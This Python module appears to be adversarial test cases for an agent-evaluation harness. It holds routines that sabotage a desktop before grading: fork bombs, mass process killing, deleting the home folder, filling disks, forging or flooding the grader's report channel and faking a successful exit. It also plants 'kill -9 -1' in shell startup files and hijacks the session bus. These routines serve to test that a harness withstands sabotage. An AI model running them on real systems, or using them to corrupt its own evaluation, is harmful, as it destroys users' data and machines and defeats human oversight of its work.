"""Ways to make a computer useless before it is judged, which must not earn a second try."""

from __future__ import annotations

import ctypes
import os
import resource
import shutil
import signal
import subprocess
import sys
import time

from proctor.attacks.attack import attack
from proctor.attacks.inside import LIBC, call

HOME = os.path.expanduser("~")
FOR_SEC = 40


def _apart(work: object) -> None:
    """Do something in a process of its own that nobody waits for."""
    if os.fork() == 0:
        os.setsid()
        for fd in range(3):
            os.dup2(os.open("/dev/null", os.O_RDWR), fd)
        signal.alarm(FOR_SEC)
        try:
            work()  # type: ignore[operator]
        finally:
            os._exit(0)


def _pids() -> list[int]:
    return [int(name) for name in os.listdir("/proc") if name.isdigit() and int(name) != os.getpid()]


def traced_interpreter() -> str:
    """Ask to be traced by process 1 and send a signal, so that it sees a child that stopped."""
    call("ptrace", 0, 0, 0, 0)
    os.kill(os.getpid(), signal.SIGUSR1)
    return ""


def traced_and_trapped() -> str:
    """Ask to be traced, then run another program, which stops at its start."""
    call("ptrace", 0, 0, 0, 0)
    os.execv("/bin/true", ["true"])
    return ""


def traced_orphans() -> str:
    """Leave process 1 a hundred orphans that asked to be traced and stop at every signal."""
    for _ in range(100):
        if os.fork() == 0:
            if os.fork():
                os._exit(0)
            signal.alarm(20)
            call("ptrace", 0, 0, 0, 0)
            for number in (signal.SIGUSR1, signal.SIGTRAP, signal.SIGSTOP):
                os.kill(os.getpid(), number)
            os._exit(0)
    return ""


def kill_everything() -> str:
    """Kill everything that can be seen."""
    for pid in _pids():
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            continue
    return ""


def kill_minus_one() -> str:
    """Kill every process at once, the interpreter with it."""
    os.kill(-1, signal.SIGKILL)
    return ""


def stop_everything() -> str:
    """Stop every process of the desktop."""
    for pid in _pids():
        try:
            os.kill(pid, signal.SIGSTOP)
        except OSError:
            continue
    return ""


def stop_whatever_starts() -> str:
    """Stop every new process, for as long as the episode goes on."""

    def work() -> None:
        while True:
            for pid in _pids():
                try:
                    os.kill(pid, signal.SIGSTOP)
                except OSError:
                    continue

    _apart(work)
    return ""


def kill_whatever_starts() -> str:
    """Kill every new process, for as long as the episode goes on."""

    def work() -> None:
        while True:
            for pid in _pids():
                try:
                    os.kill(pid, signal.SIGKILL)
                except OSError:
                    continue

    _apart(work)
    return ""


def stop_itself() -> str:
    """Stop the interpreter in the middle of an action."""
    os.kill(os.getpid(), signal.SIGSTOP)
    return ""


def fork_bomb() -> str:
    """Start processes without end, each of which does the same."""

    def work() -> None:
        signal.alarm(FOR_SEC)
        while True:
            try:
                os.fork()
            except OSError:
                continue

    _apart(work)
    return ""


def all_process_numbers() -> str:
    """Start as many sleeping processes as may be, and hold on to them."""

    def work() -> None:
        while True:
            try:
                if os.fork() == 0:
                    signal.alarm(FOR_SEC)
                    signal.pause()
            except OSError:
                signal.pause()

    _apart(work)
    return ""


def zombies() -> str:
    """Leave as many dead children as may be, which nobody asks about."""

    def work() -> None:
        while True:
            try:
                if os.fork() == 0:
                    os._exit(0)
            except OSError:
                signal.pause()

    _apart(work)
    return ""


def threads() -> str:
    """Start as many threads as may be."""
    import threading

    def work() -> None:
        threading.stack_size(65536)
        try:
            while True:
                threading.Thread(target=signal.pause, daemon=True).start()
        except RuntimeError:
            signal.pause()

    _apart(work)
    return ""


def close_the_home() -> str:
    """Take every right from the home folder."""
    os.chmod(HOME, 0)
    return ""


def remove_the_home() -> str:
    """Remove the home folder with everything in it."""
    shutil.rmtree(HOME, ignore_errors=True)
    return ""


def home_is_a_link() -> str:
    """Put links in place of the folders of the home."""
    for name in os.listdir(HOME):
        path = f"{HOME}/{name}"
        if os.path.isdir(path) and not os.path.islink(path):
            shutil.rmtree(path, ignore_errors=True)
            try:
                os.symlink("/proc/1/root", path)
            except OSError:
                continue
    return ""


def _fill(folder: str) -> str:
    path = f"{folder}/filling-{os.getpid()}"
    try:
        with open(path, "wb", buffering=0) as file:
            while True:
                file.write(bytes(1 << 20))
    except OSError:
        pass
    try:  # the last bytes too
        with open(path + "-rest", "wb", buffering=0) as file:
            while True:
                file.write(b"x")
    except OSError:
        return ""


def fill_run() -> str:
    """Fill the folder of sockets and locks."""
    return _fill(os.environ["XDG_RUNTIME_DIR"])


def fill_tmp() -> str:
    """Fill the disk by way of /tmp."""
    return _fill("/tmp")


def fill_shared_memory() -> str:
    """Fill /dev/shm."""
    return _fill("/dev/shm")


def fill_display_sockets() -> str:
    """Fill the folder in which the display's socket lies, and put another socket in its place."""
    _fill("/tmp/.X11-unix")
    for name in os.listdir("/tmp/.X11-unix"):
        try:
            os.unlink(f"/tmp/.X11-unix/{name}")
        except OSError:
            continue
    return ""


@attack(timeout_sec=40)
def all_inodes_of_run() -> str:
    """Use up the names of the folder of sockets."""
    folder = os.environ["XDG_RUNTIME_DIR"]
    try:
        for number in range(200_000):
            os.mknod(f"{folder}/{number}")
    except OSError:
        return ""
    return ""


def end_the_interpreter() -> str:
    """End the interpreter with a status that looks like success."""
    os._exit(0)


def become_another_program() -> str:
    """Turn the interpreter into a program that never answers."""
    os.execv("/bin/sleep", ["sleep", "1000"])
    return ""


def close_the_reports() -> str:
    """Close the descriptor on which the interpreter reports."""
    os.close(4)
    return ""


def forged_reports() -> str:
    """Write reports of one's own: none at all, halves, huge ones, ones of other types."""
    for text in (b"\n", b"[]\n", b'{"error": ', b"null\n", b'{"status": 1e999}\n', b'{"status": "x"}\n', b"\xff\xfe\n"):
        os.write(4, text)
    return ""


@attack(timeout_sec=10)
def endless_report() -> str:
    """Write a report that does not end."""
    os.set_blocking(4, True)
    deadline = time.monotonic() + 8
    while time.monotonic() < deadline:
        os.write(4, b"x" * 65536)
    return ""


@attack(timeout_sec=10)
def deep_report() -> str:
    """Write a report that is nested a hundred thousand times."""
    os.write(4, b"[" * 3000 + b"\n")
    return ""


@attack(timeout_sec=8)
def flood_of_output() -> str:
    """Print without end, control characters too."""
    while True:
        sys.stdout.write("\x1b[2J\x9b31m\0\r" * 5000)


@attack(timeout_sec=5)
def deaf_to_interrupts() -> str:
    """Ignore every signal that can be ignored, in the middle of an action."""
    for number in range(1, 32):
        try:
            signal.signal(number, signal.SIG_IGN)
        except (OSError, ValueError):
            continue
    while True:
        signal.pause()


def own_interpreter_next_time() -> str:
    """Lay out modules and start-up files for the next interpreter to load, and end this one."""
    version = f"python{sys.version_info.major}.{sys.version_info.minor}"
    folder = f"{HOME}/.local/lib/{version}/site-packages"
    os.makedirs(folder, exist_ok=True)
    trap = "import os, time\nos.write(4, b'{}' + bytes([10]))\ntime.sleep(1000)\n"
    for path in (f"{folder}/usercustomize.py", f"{folder}/sitecustomize.py", f"{HOME}/json.py", f"{HOME}/ast.py"):
        with open(path, "w") as file:
            file.write(trap)
    for name in (".bashrc", ".profile", ".bash_profile", ".xsessionrc"):
        with open(f"{HOME}/{name}", "w") as file:
            file.write("kill -9 -1\n")
    os._exit(0)


@attack(timeout_sec=20)
def busy_everywhere() -> str:
    """Keep every core busy in many processes, at the highest priority one can get."""

    def work() -> None:
        for _ in range(60):
            if os.fork() == 0:
                signal.alarm(FOR_SEC)
                while True:
                    pass
        signal.pause()

    _apart(work)
    return ""


def unreadable_processes() -> str:
    """Leave processes that nobody may read, not even root of their namespace."""
    for _ in range(20):
        if os.fork() == 0:
            signal.alarm(FOR_SEC)
            LIBC.prctl(4, 0, 0, 0, 0)  # not dumpable
            while True:
                signal.pause()
    LIBC.prctl(4, 0, 0, 0, 0)
    return ""


def names_of_processes() -> str:
    """Give processes names with parentheses, line ends and bytes that are not text."""
    for name in (b") R 1 1 (", b"\n\n\n", b"\xff\xfe\xfd", b"a) Z 0", b"((((((((("):
        if os.fork() == 0:
            signal.alarm(FOR_SEC)
            buffer = ctypes.create_string_buffer(name)
            LIBC.prctl(15, buffer, 0, 0, 0)
            signal.pause()
    return ""


def lower_limits_for_all() -> str:
    """Set the resource limits of every process of the desktop to nothing."""
    for pid in _pids():
        for number in (resource.RLIMIT_NOFILE, resource.RLIMIT_FSIZE, resource.RLIMIT_DATA, resource.RLIMIT_CPU):
            try:
                resource.prlimit(pid, number, (0, 0))
            except (OSError, ValueError):
                continue
    return ""


def frozen_by_pidfds() -> str:
    """Keep every process of the desktop stopped by tracing it."""

    def work() -> None:
        for pid in _pids():
            call("ptrace", 16, pid, 0, 0)
        signal.pause()

    _apart(work)
    return ""


def kill_the_window_manager() -> str:
    """Kill the window manager and the panels, again and again."""

    def work() -> None:
        while True:
            subprocess.run(["pkill", "-9", "openbox|lxpanel|xfdesktop|xfce4-panel|xfwm4"], check=False)

    _apart(work)
    return ""


def kill_the_buses() -> str:
    """Kill the session bus, the accessibility bus and its registry."""
    subprocess.run(["pkill", "-9", "dbus-daemon|at-spi"], check=False)
    return ""


def own_bus_in_its_place() -> str:
    """Kill the session bus and listen in its place, without ever answering."""
    import socket

    subprocess.run(["pkill", "-9", "dbus-daemon"], check=False)
    path = os.environ["DBUS_SESSION_BUS_ADDRESS"].partition("path=")[2].partition(",")[0]

    def work() -> None:
        os.unlink(path)
        server = socket.socket(socket.AF_UNIX)
        server.bind(path)
        server.listen(100)
        kept = []
        while True:
            kept.append(server.accept())

    _apart(work)
    return ""


def bus_that_babbles() -> str:
    """Kill the session bus and answer in its place with noise without an end."""
    import socket

    subprocess.run(["pkill", "-9", "dbus-daemon"], check=False)
    path = os.environ["DBUS_SESSION_BUS_ADDRESS"].partition("path=")[2].partition(",")[0]

    def serve(connection: socket.socket) -> None:
        connection.sendall(b"OK 1234deadbeef\r\n")
        while True:
            connection.sendall(os.urandom(65536))

    def work() -> None:
        os.unlink(path)
        server = socket.socket(socket.AF_UNIX)
        server.bind(path)
        server.listen(100)
        while True:
            connection, _ = server.accept()
            if os.fork() == 0:
                signal.alarm(FOR_SEC)
                serve(connection)

    _apart(work)
    return ""
